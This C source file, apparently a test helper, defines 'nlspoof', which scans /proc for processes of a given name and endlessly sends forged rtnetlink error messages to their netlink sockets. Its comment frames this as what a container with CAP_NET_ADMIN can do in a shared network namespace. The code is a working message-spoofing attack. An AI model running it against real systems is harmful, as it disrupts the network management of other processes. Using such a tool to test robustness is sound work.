/*
 * nlspoof.c - "nlspoof NAME": sends forged errors of rtnetlink to the sockets of all processes of that name, for ever,
 * as a container with CAP_NET_ADMIN may in a network namespace that it shares.
 *
 * Prints "ready".
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int has_name(const char *pid, const char *wanted)
{
	char path[300], name[64] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	file = fopen(path, "r");
	if (!file)
		return 0;
	if (!fgets(name, sizeof(name), file))
		name[0] = '\0';
	fclose(file);
	name[strcspn(name, "\n")] = '\0';
	return strcmp(name, wanted) == 0;
}

static void spoof(int fd, unsigned port)
{
	struct { struct nlmsghdr header; struct nlmsgerr error; } message = {
		.header = { .nlmsg_len = sizeof(message), .nlmsg_type = NLMSG_ERROR },
		.error = { .error = -EDOM },
	};
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port };

	(void)sendto(fd, &message, sizeof(message), MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
}

int main(int argc, char **argv)
{
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	if (argc != 2 || fd < 0)
		return 1;
	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc)) != NULL) {
			if (isdigit((unsigned char)entry->d_name[0]) && has_name(entry->d_name, argv[1]))
				spoof(fd, (unsigned)atoi(entry->d_name));
		}
		if (proc)
			closedir(proc);
		usleep(2000);
	}
}
